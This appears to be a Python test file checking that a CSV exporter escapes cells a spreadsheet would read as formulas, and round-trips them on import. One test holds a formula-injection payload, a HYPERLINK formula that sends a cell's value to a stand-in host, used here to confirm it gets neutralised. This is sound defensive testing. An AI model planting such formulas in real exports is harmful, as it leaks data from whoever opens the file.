"""Cells that a spreadsheet would take for formulas: marked on the way out, and unmarked on the way in."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.client.files.exporting.csv_sink import CsvSink
from app.client.files.exporting.listing import text, whole
from app.client.files.formulas import escaped, unescaped

COLUMNS = (text("reference", "reference"), whole("delta", "delta"))


@pytest.mark.complaint("X9")
@pytest.mark.parametrize("sign", [*"=+-@\t\r\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_text_begins_like_a_formula(sign: str) -> None:
    """Whatever sign a spreadsheet begins one with, also behind apostrophes of the text's own, and where it splits."""
    for own in ("", "'", "''"):
        assert escaped(f"{own}{sign}1+1") == f"'{own}{sign}1+1"
        assert escaped(f"Tea;{own}{sign}1+1; -5") == f"Tea;'{own}{sign}1+1; -5"


@pytest.mark.complaint("X9")
@given(st.text(alphabet="'=+-@\t; a1|", max_size=8))
def test_what_is_written_is_read_back_letter_by_letter(written: str) -> None:
    """Also what has an apostrophe of its own."""
    assert unescaped(escaped(written)) == written


@pytest.mark.parametrize(
    ("cell", "text"),
    [('="00123"', "00123"), ('="a ""b"""', 'a "b"'), ('=""', ""), ('="a"&"b"', '="a"&"b"')],
)
def test_a_formula_that_is_a_text_stands_for_it(cell: str, text: str) -> None:
    """So programs keep a spreadsheet from taking the zeros off; a text of ours that looks so is marked."""
    assert unescaped(cell) == text
    assert unescaped(escaped(cell)) == cell


@pytest.mark.complaint("X9")
def test_texts_are_marked_and_numbers_are_not() -> None:
    """A spreadsheet may add up the numbers."""
    file = io.BytesIO()
    CsvSink(file, COLUMNS).write([('=HYPERLINK("http://x.example/?"&A1)', -5), ("it's 5", 5), (None, None)])
    assert list(csv.reader(io.StringIO(file.getvalue().decode()))) == [
        ["reference", "delta"],
        ['\'=HYPERLINK("http://x.example/?"&A1)', "-5"],
        ["it's 5", "5"],
        ["", ""],
    ]
